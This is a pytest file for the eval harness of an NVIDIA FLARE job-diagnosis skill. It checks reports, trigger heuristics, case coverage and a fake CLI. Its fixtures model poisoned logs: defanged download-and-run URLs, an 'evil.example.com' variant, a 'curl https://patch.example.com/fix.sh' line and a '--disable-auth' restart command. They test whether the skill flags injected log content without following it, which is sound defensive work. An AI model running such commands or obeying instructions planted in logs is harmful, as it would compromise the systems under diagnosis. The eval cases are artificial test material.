"""The diagnose eval harness itself: comparison logic on fake reports, the trigger heuristic, the case file."""

import copy
import json
import re
from pathlib import Path

import pytest
import yaml
from module_loader import load_by_path

REPO = Path(__file__).resolve().parents[2]
EVALS_DIR = REPO / "evals"
CASES_FILE = EVALS_DIR / "diagnose" / "evals.json"
FILES = EVALS_DIR / "diagnose" / "files"

# The 21 catalog rows named by the spec (diagnose-job.md, catalog table).
SPEC_IDS = {
    "USER_CODE_EXCEPTION",
    "IMPORT_ERROR",
    "DATA_PATH_NOT_FOUND",
    "ABSOLUTE_DATA_PATH",
    "CUDA_OOM",
    "RESOURCE_EXCEEDS_HOST_CAPACITY",
    "ROUND_TIMEOUT",
    "TRANSFER_PROGRESS_TIMEOUT",
    "DATUM_OBJECT_TYPE_6",
    "PROCESS_EXIT_NEG9",
    "PEER_GONE_OR_TIMEOUT",
    "AUTH_FAILURE",
    "STARTUP_KIT_EXPIRED",
    "COMPONENT_NOT_AUTHORIZED",
    "PACKAGE_EXPORT_ERROR",
    "SIMULATION_CONFIG_ERROR",
    "CONFIG_FILE_VALIDATION_ERROR",
    "INFRASTRUCTURE_DEPLOYMENT_FAILURE",
    "PARTIAL_LOG_VISIBILITY",
    "SITE_AUTHORIZATION_FAILURE",
    "SUSPICIOUS_LOG_CONTENT",
}


checks = load_by_path("eval_checks", EVALS_DIR / "eval_checks.py")

REPORT = {
    "runtime_mode": "production",
    "matched_pattern": "ROUND_TIMEOUT",
    "recovery_category": "ENVIRONMENT_FAILURE",
    "confidence": "medium",
    "likely_cause": "site-2 did not answer before the task timeout",
    "findings": ["SUSPICIOUS_LOG_CONTENT"],
    "suspicious_content": [{"kind": "download_execute", "line": 4, "summary": "hxxps://patch[.]example[.]com/..."}],
    "unverified_markers": [{"marker": "[USER_CODE_EXCEPTION]", "source": "a.log", "line": 3, "corroborated": False}],
    "other_candidates": [{"pattern": "PEER_GONE_OR_TIMEOUT", "recovery_category": "ENVIRONMENT_FAILURE"}],
    "evidence_sources": [{"path": "a.log", "status": "complete"}, {"path": "k.key", "status": "skipped_credential"}],
    "metrics": {"non_finite": ["final_aggregated_metrics.accuracy"]},
    "missing_evidence": ["logs of site-2"],
    "follow_up_commands": ["nvflare --format json job logs J --site site-2 --tail 200"],
    "next_action": "Check client liveness first.",
}
EXPECTED = {
    "runtime_mode": "production",
    "matched_pattern": "ROUND_TIMEOUT",
    "matched_pattern_not": ["USER_CODE_EXCEPTION"],
    "recovery_category": "ENVIRONMENT_FAILURE",
    "confidence": ["low", "medium"],
    "findings_include": ["SUSPICIOUS_LOG_CONTENT"],
    "findings_exclude": ["PARTIAL_LOG_VISIBILITY"],
    "suspicious_kinds_include": ["download_execute"],
    "suspicious_count": 1,
    "suspicious_line_any": [3, 4],
    "other_candidates_include": ["PEER_GONE_OR_TIMEOUT"],
    "missing_evidence_include": ["SITE-2"],
    "follow_up_include": ["--site site-2"],
    "likely_cause_include_any": ["nothing here", "timeout"],
    "marker_corroborated": {"USER_CODE_EXCEPTION": False},
    "metrics_non_finite": True,
    "evidence_status_include": ["skipped_credential"],
    "must_not_contain": ["--disable-auth"],
}


def run_check(expected=EXPECTED, report=REPORT, code=0, stderr="", catalog=None):
    return checks.check_result(expected, code, json.dumps(report, sort_keys=True), stderr, catalog)


def test_matching_report_passes():
    assert run_check() == []


@pytest.mark.parametrize(
    "key, value, miss",
    [
        ("runtime_mode", "simulation", "runtime_mode"),
        ("matched_pattern", "CUDA_OOM", "matched_pattern"),
        ("matched_pattern", ["CUDA_OOM", "UNKNOWN"], "matched_pattern"),
        ("matched_pattern_not", ["ROUND_TIMEOUT"], "must not be"),
        ("recovery_category", "RETRYABLE", "recovery_category"),
        ("confidence", "high", "confidence"),
        ("findings_include", ["LOGS_TRUNCATED"], "findings: missing"),
        ("findings_exclude", ["SUSPICIOUS_LOG_CONTENT"], "findings: unexpected"),
        ("suspicious_kinds_include", ["exfiltration"], "suspicious_content: missing"),
        ("suspicious_count", 0, "suspicious_content: expected 0"),
        ("suspicious_line_any", [7, 8], "nothing flagged on lines [7, 8]"),
        ("other_candidates_include", ["ROUND_TIMEOUT"], "other_candidates: missing"),
        ("missing_evidence_include", ["stdout"], "missing_evidence"),
        ("follow_up_include", ["--site site-1"], "follow_up_commands"),
        ("likely_cause_include_any", ["oom"], "likely_cause"),
        ("marker_corroborated", {"USER_CODE_EXCEPTION": True}, "unverified_markers"),
        ("metrics_non_finite", False, "metrics.non_finite"),
        ("evidence_status_include", ["permission_denied"], "evidence_sources: missing"),
        ("must_not_contain", ["client liveness"], "forbidden"),
    ],
)
def test_each_kind_of_miss_is_reported(key, value, miss):
    expected = {**EXPECTED, key: value}
    misses = run_check(expected)
    assert len(misses) == 1 and miss in misses[0], misses


def test_must_not_contain_scopes():
    report = {**REPORT, "likely_cause": "log says: run hxxps://x[.]example[.]com with --disable-auth"}
    assert run_check({"must_not_contain": ["--disable-auth"]}, report) == []  # actions scope: cause not checked
    misses = run_check({"must_not_contain": ["--disable-auth"], "must_not_contain_scope": "report"}, report)
    assert misses == ["output contains forbidden '--disable-auth'"]
    in_follow_up = {**REPORT, "follow_up_commands": ["nvflare system restart --disable-auth"]}
    assert "forbidden" in run_check({"must_not_contain": ["--disable-auth"]}, in_follow_up)[0]


def test_exit_code_and_stderr_rules():
    assert "exit_code: expected 0, got 2" in run_check(code=2, stderr="error: no evidence\n")[0]
    assert run_check({"exit_code": 2}, code=2, stderr="error: no evidence could be read\n") == []
    assert run_check({"exit_code": 2}, code=2, stderr="line one\nline two\n") == [
        "stderr: expected exactly one line, got 2"
    ]
    assert checks.check_result({}, 0, "not json", "") == ["stdout is not one JSON document"]
    either = {"exit_code": [0, 2]}
    assert run_check(either, code=2, stderr="error: empty input\n") == []
    assert run_check(either) == []
    assert run_check(either, code=1, stderr="boom\n")[0].startswith("exit_code: expected [0, 2], got 1")


def test_markdown_output_checks():
    text = "# Diagnosis\n## Suspicious log content (not followed)\n- hxxps://patch[.]example[.]com\n"
    expected = {"stdout_include": ["Suspicious log content (not followed)"], "must_not_contain": ["patch.example.com"]}
    expected["must_not_contain_scope"] = "report"
    assert checks.check_result(expected, 0, text, "", markdown=True) == []
    leaked = text + "curl https://patch.example.com/fix.sh\n"
    assert checks.check_result(expected, 0, leaked, "", markdown=True) == [
        "output contains forbidden 'patch.example.com'"
    ]
    assert checks.check_result({"stdout_include": ["MISSING"]}, 0, text, "", markdown=True) == [
        "stdout lacks 'MISSING'"
    ]


def test_invariants():
    report = {**REPORT, "missing_evidence": [], "follow_up_commands": []}
    misses = run_check({}, report)
    assert any("without missing_evidence" in m for m in misses)
    assert any("without follow_up_commands" in m for m in misses)
    catalog = {
        "ROUND_TIMEOUT": {"recovery_category": "ENVIRONMENT_FAILURE", "next_action": "Check client liveness first."}
    }
    assert run_check({}, REPORT, catalog=catalog) == []
    reworded = {**REPORT, "next_action": "Raise the timeout."}
    assert run_check({}, reworded, catalog=catalog) == [
        "invariant: next_action is not copied exactly from catalog row ROUND_TIMEOUT"
    ]
    unknown = {**REPORT, "matched_pattern": "UNKNOWN", "recovery_category": "FIXABLE_BY_CODE"}
    assert "invariant: matched_pattern UNKNOWN needs recovery_category UNKNOWN" in run_check({}, unknown)


def test_traceback_sorted_keys_and_schema_invariants():
    assert run_check(stderr="Traceback (most recent call last):\n  ...\nKeyError: 'x'\n") == [
        "invariant: the CLI printed a Python traceback on stderr"
    ]
    unsorted = '{"b": 1, "a": {"d": 2, "c": 3}}'
    assert checks.check_result({}, 0, unsorted, "") == ["invariant: JSON object keys are not sorted"]
    schema = {
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "type": "object",
        "required": ["schema_version"],
        "properties": {"confidence": {"enum": ["high", "medium", "low"]}},
    }
    misses = run_check({}, {**REPORT, "confidence": "certain"}, catalog=None) + checks.schema_misses(
        {**REPORT, "confidence": "certain"}, schema
    )
    assert any(m.startswith("schema: <root>: 'schema_version' is a required property") for m in misses)
    assert any(m.startswith("schema: confidence:") for m in misses)
    assert checks.schema_misses({**REPORT, "schema_version": "nvflare.diagnose.report.v1"}, schema) == []


def test_validate_case():
    good = {"id": "x", "prompt": "p", "files": ["a.log"], "expected": {"matched_pattern": "UNKNOWN"}}
    assert checks.validate_case(good) == []
    typo = copy.deepcopy(good)
    typo["expected"]["finding_include"] = ["X"]
    assert checks.validate_case(typo) == ["unknown expected key 'finding_include'"]
    negative_with_files = {"id": "n", "prompt": "p", "files": ["a.log"], "expected": {"trigger": False}}
    assert checks.validate_case(negative_with_files)
    assert checks.validate_case({"id": "y", "files": [], "expected": {}}) == [
        "a file-backed case needs a non-empty files list"
    ]


def test_poisoned_cases_follow_the_variants_index():
    variants = [
        {
            "file": "b64/split_url.log",
            "kinds": ["obfuscated"],
            "forbidden": ["evil.example.com"],
            "real_signal": "ROUND_TIMEOUT",
            "lines": [4, 5],
        },
        {"file": "plain.txt", "kinds": ["exfiltration"], "forbidden": [], "real_signal": "task timed out waiting"},
    ]
    cases = checks.poisoned_cases(variants)
    assert [c["id"] for c in cases] == ["poisoned-b64-split-url", "poisoned-plain"]
    assert cases[0]["files"] == ["poisoned/b64/split_url.log"]
    assert cases[0]["expected"] == {
        "findings_include": ["SUSPICIOUS_LOG_CONTENT"],
        "suspicious_kinds_include": ["obfuscated"],
        "must_not_contain": ["evil.example.com"],
        "matched_pattern_not": ["SUSPICIOUS_LOG_CONTENT"],
        "suspicious_line_any": [4, 5],
        "matched_pattern": "ROUND_TIMEOUT",
    }
    assert "matched_pattern" not in cases[1]["expected"]  # free-text signal: no pattern id to compare
    assert all(checks.validate_case(c) == [] for c in cases)


DESCRIPTION = (
    "Diagnose a failed, stalled or timed-out NVIDIA FLARE job (simulation, POC or production) from bounded evidence. "
    "Do not use for creating or converting jobs, healthy runs, downloading results or generic Python errors."
)


def test_trigger_heuristic():
    assert checks.would_trigger("My NVFLARE simulation failed with a traceback", DESCRIPTION)
    assert checks.would_trigger("The FLARE job timed-out in round 3", DESCRIPTION)
    assert not checks.would_trigger("Create a new FedAvg job", DESCRIPTION)  # FLARE, no failure word
    assert not checks.would_trigger("Fix my pandas KeyError", DESCRIPTION)  # failure word, no FLARE
    # failure words count only when the description itself advertises them
    assert not checks.would_trigger("My NVFLARE job failed", "Helps with NVIDIA FLARE jobs. Not for anything else.")
    # families: "timed-out" in the description also covers "timeout"; no crash word there, so "crashed" is not enough
    assert checks.would_trigger("peer_read_timeout on my FLARE server", DESCRIPTION)
    assert not checks.would_trigger("My FLARE site crashed with -9", DESCRIPTION)
    assert checks.would_trigger("My FLARE site crashed with -9", DESCRIPTION + " Also for crashed or killed sites.")
    assert checks.trigger_misses("Convert my PyTorch script to FLARE", DESCRIPTION, False) == []
    assert checks.trigger_misses("My FLARE job failed", DESCRIPTION, False) == ["prompt would trigger the skill"]
    no_exclusions = "Diagnose a failed NVIDIA FLARE job."
    assert checks.trigger_misses("Create a FedAvg job", no_exclusions, False) == [
        "description states no exclusions (when not to use)"
    ]
    assert checks.trigger_misses("anything", "", False) == ["SKILL.md description is empty or missing"]


# ---- the case file ----

CASES = json.loads(CASES_FILE.read_text(encoding="utf-8"))["cases"]
FILE_CASES = [c for c in CASES if c["expected"].get("trigger") is not False]


def test_case_file_is_valid_and_large_enough():
    problems = [f"{c['id']}: {p}" for c in CASES for p in checks.validate_case(c)]
    assert problems == []
    ids = [c["id"] for c in CASES]
    assert len(ids) == len(set(ids))
    assert len(FILE_CASES) >= 40
    assert sum(1 for c in CASES if c["expected"] == {"trigger": False}) >= 6


def test_case_files_exist():
    for case in FILE_CASES:
        if case["expected"].get("exit_code") == 2:
            continue  # deliberately unreadable evidence
        paths = [case["stdin"]] if case.get("stdin") else []
        paths += [f for f in case["files"] if f != "-"]
        missing = [p for p in paths if not (FILES / p).exists()]
        assert missing == [], case["id"]


def _covered_ids() -> set:
    covered = set()
    for case in FILE_CASES:
        pattern = case["expected"].get("matched_pattern")
        if isinstance(pattern, str):
            covered.add(pattern)
        covered.update(case["expected"].get("findings_include", []))
    return covered


def test_cases_cover_every_spec_catalog_row():
    assert SPEC_IDS - _covered_ids() == set()


def test_cases_cover_every_catalog_row_in_the_yaml():
    catalog = yaml.safe_load((REPO / "shared" / "catalog" / "failure_patterns.yaml").read_text(encoding="utf-8"))
    ids = {row["id"] for row in catalog["patterns"]}
    assert len(ids) == 23 and ids == SPEC_IDS | {"NVFLARE_COMMAND_ERROR", "NVFLARE_INTERNAL_ERROR"}
    assert ids - _covered_ids() == set()


def test_real_fixtures_are_used():
    real = {c["id"]: c for c in FILE_CASES if any(f.startswith("real/") for f in c["files"] + [c.get("stdin") or ""])}
    assert len(real) >= 4
    by_dir = {
        f.split("/")[1] for c in real.values() for f in c["files"] + [c.get("stdin") or ""] if f.startswith("real/")
    }
    assert {"healthy", "import-error", "user-code-exception", "bad-recipe-arg"} <= by_dir


def test_synthetic_fixtures_use_reserved_domains_only():
    host = re.compile(r"\b(?:[a-z0-9-]+\.)+(?:com|net|org|io|ai|dev)\b", re.IGNORECASE)
    reserved = re.compile(r"(^|\.)example\.(com|net|org)$", re.IGNORECASE)
    offenders = []
    for path in sorted((FILES / "synthetic").rglob("*")):
        if path.is_file():
            text = path.read_bytes().decode("utf-8", errors="replace")
            offenders += [f"{path.name}: {m.group(0)}" for m in host.finditer(text) if not reserved.search(m.group(0))]
    assert offenders == []


# ---- the I/O shell, end to end, against a fake CLI (no dependency on the real script's behaviour) ----

FAKE_CLI = """
import json, sys
paths = [a for a in sys.argv[1:] if not a.startswith("--")]
if any(p.endswith("missing.log") for p in paths):
    print("fake: no evidence could be read", file=sys.stderr)
    sys.exit(2)
text = sys.stdin.read() if "-" in paths else open(paths[0], encoding="utf-8").read()
pattern = "IMPORT_ERROR" if "ModuleNotFoundError" in text else "UNKNOWN"
category = "FIXABLE_BY_CODE" if pattern == "IMPORT_ERROR" else "UNKNOWN"
print(json.dumps({"runtime_mode": "simulation", "matched_pattern": pattern, "recovery_category": category,
                  "confidence": "high", "next_action": "row text", "follow_up_commands": []}, sort_keys=True))
"""


@pytest.fixture
def harness(tmp_path, monkeypatch):
    run_evals = load_by_path("run_evals", EVALS_DIR / "run_evals.py")
    files = tmp_path / "files"
    (files / "poisoned").mkdir(parents=True)
    (files / "import.log").write_text("ModuleNotFoundError: No module named 'x'\n")
    (files / "poisoned" / "p.log").write_text("ModuleNotFoundError: No module named 'y'\n")
    (files / "poisoned" / "variants.json").write_text(
        json.dumps([{"file": "p.log", "kinds": ["download_execute"], "forbidden": [], "real_signal": "IMPORT_ERROR"}])
    )
    skill = tmp_path / "skill"
    (skill / "scripts").mkdir(parents=True)
    (skill / "scripts" / "diagnose_job.py").write_text(FAKE_CLI)
    (skill / "SKILL.md").write_text(f"---\nname: nvflare-diagnose-job\ndescription: {DESCRIPTION}\n---\nbody\n")
    for name, value in {
        "FILES": files,
        "VARIANTS": files / "poisoned" / "variants.json",
        "SKILL": skill,
        "SCRIPT": skill / "scripts" / "diagnose_job.py",
        "CATALOG_JSON": tmp_path / "none.json",
        "REPORT_SCHEMA": tmp_path / "none.schema.json",
        "EVALS": tmp_path / "evals.json",
    }.items():
        monkeypatch.setattr(run_evals, name, value)
    monkeypatch.setattr(run_evals, "print_message_coverage", lambda verbose: True)  # measured in its own test
    monkeypatch.setattr(run_evals, "print_template_dissent", lambda verbose: True)  # test_self_contradicting_evidence
    # the real-world set and the blind halves are scored by their own tests (test_realworld_set.py, test_blind_set.py)
    # and by `make eval`; here their sections print with no case (through the fake CLI every case is a miss, and
    # their ~100 CLI starts were most of these tests' CPU)
    monkeypatch.setattr(run_evals.realworld_set, "load_cases", lambda: ([], []))
    monkeypatch.setattr(run_evals.blind_set, "HALVES", ())
    return run_evals, tmp_path / "evals.json"


def _write_cases(path, cases):
    path.write_text(json.dumps({"cases": cases}))


def test_shell_scores_pass_miss_and_poisoned(harness, capsys):
    run_evals, evals = harness
    _write_cases(
        evals,
        [
            {
                "id": "ok-import",
                "prompt": "My FLARE simulation failed",
                "files": ["import.log"],
                "expected": {"matched_pattern": "IMPORT_ERROR", "recovery_category": "FIXABLE_BY_CODE"},
            },
            {
                "id": "stdin-import",
                "prompt": "My FLARE simulation failed",
                "files": ["-"],
                "stdin": "import.log",
                "expected": {"matched_pattern": "IMPORT_ERROR"},
            },
            {
                "id": "wrong-pattern",
                "prompt": "My FLARE simulation failed",
                "files": ["import.log"],
                "expected": {"matched_pattern": "CUDA_OOM"},
            },
            {"id": "exit-two", "prompt": "My FLARE job failed", "files": ["missing.log"], "expected": {"exit_code": 2}},
            {"id": "neg-create", "prompt": "Create a new FedAvg job", "files": [], "expected": {"trigger": False}},
        ],
    )
    code = run_evals.main(["--verbose"])
    out = capsys.readouterr().out.splitlines()
    assert code == 1
    table = {line.split()[0]: line.split()[1] for line in out[1:] if line and line.split()[0] != "trigger"}
    assert table["ok-import"] == "PASS" and table["stdin-import"] == "PASS" and table["exit-two"] == "PASS"
    assert table["wrong-pattern"] == "FAIL"
    # the poisoned variant is generated and run; the fake CLI reports no suspicious content, so it fails
    assert table["poisoned-p"] == "FAIL"
    assert out[-2].startswith("trigger checks: 6 passed, 0 failed (1 negative and 5 positive")
    assert out[-1] == "3 passed, 2 failed"


def test_shell_counts_trigger_misses_and_filter(harness, capsys):
    run_evals, evals = harness
    _write_cases(
        evals,
        [
            {
                "id": "ok-import",
                "prompt": "My FLARE simulation failed",
                "files": ["import.log"],
                "expected": {"matched_pattern": "IMPORT_ERROR"},
            },
            {"id": "neg-bad", "prompt": "My FLARE job failed", "files": [], "expected": {"trigger": False}},
        ],
    )
    assert run_evals.main(["--filter", "ok-import"]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == "1 passed, 0 failed"
    assert run_evals.main([]) == 1  # the negative prompt triggers, although the CLI cases pass
    out = capsys.readouterr().out.splitlines()
    assert "trigger miss: neg-bad: prompt would trigger the skill" in out
    assert out[-1] == "1 passed, 1 failed"  # the generated poisoned case fails against the fake CLI


def test_shell_rejects_broken_case_file(harness, capsys):
    run_evals, evals = harness
    evals.write_text("{not json")
    assert run_evals.main([]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("error: cannot load the eval inputs")


# Each refinement rule of the spec and each of the five classic shapes, with the outcome its case pins down
# (run_evals.py replays them; this guards against a case being dropped or loosened).
RULE_AND_SHAPE_CASES = {
    "cuda-oom-beats-round-timeout": {"matched_pattern": "CUDA_OOM", "other_candidates_include": ["ROUND_TIMEOUT"]},
    "import-error-beats-user-code-marker": {
        "matched_pattern": "IMPORT_ERROR",
        "other_candidates_include": ["USER_CODE_EXCEPTION"],
    },
    "spoofed-marker-blame": {"matched_pattern": "ROUND_TIMEOUT", "marker_corroborated": {"USER_CODE_EXCEPTION": False}},
    "user-code-marker-corroborated": {"marker_corroborated": {"USER_CODE_EXCEPTION": True}},
    "partial-visibility-bundle": {
        "matched_pattern": "PARTIAL_LOG_VISIBILITY",
        "confidence": "low",
        "other_candidates_include": ["ROUND_TIMEOUT"],
    },
    "server-log-only-round-timeout": {
        "matched_pattern": "ROUND_TIMEOUT",
        "findings_exclude": ["PARTIAL_LOG_VISIBILITY"],
    },
    "transfer-progress-peer-timeout": {
        "matched_pattern": "TRANSFER_PROGRESS_TIMEOUT",
        "recovery_category": "RETRYABLE",
    },
    "peer-gone-no-progress": {"matched_pattern": "PEER_GONE_OR_TIMEOUT"},
    "dot6-transient": {"matched_pattern_not": ["DATUM_OBJECT_TYPE_6"]},
    "dot6-terminal": {"matched_pattern": "DATUM_OBJECT_TYPE_6"},
    "exit9-explicit-cleanup": {"matched_pattern": "PROCESS_EXIT_NEG9"},
    "exit9-host-oom": {"matched_pattern": "PROCESS_EXIT_NEG9"},
    "exit9-unexplained": {"matched_pattern": "PROCESS_EXIT_NEG9"},
    "mode-filter-production-row-in-simulation": {
        "runtime_mode": "simulation",
        "matched_pattern_not": ["ROUND_TIMEOUT"],
    },
    "real-sim-import-error-stdout": {"runtime_mode": "simulation", "matched_pattern": "IMPORT_ERROR"},
    "poc-component-not-authorized": {"runtime_mode": "production", "matched_pattern": "COMPONENT_NOT_AUTHORIZED"},
    "poisoned-round-timeout": {"matched_pattern": "ROUND_TIMEOUT", "findings_include": ["SUSPICIOUS_LOG_CONTENT"]},
}


@pytest.mark.parametrize("case_id", sorted(RULE_AND_SHAPE_CASES))
def test_refinement_rules_and_classic_shapes_have_pinned_cases(case_id):
    case = next((c for c in FILE_CASES if c["id"] == case_id), None)
    assert case is not None, f"eval case {case_id} is missing"
    for key, value in RULE_AND_SHAPE_CASES[case_id].items():
        assert case["expected"].get(key) == value, (case_id, key)
    if case_id.startswith("exit9-"):
        assert case["expected"]["likely_cause_include_any"]  # each variant is named in likely_cause
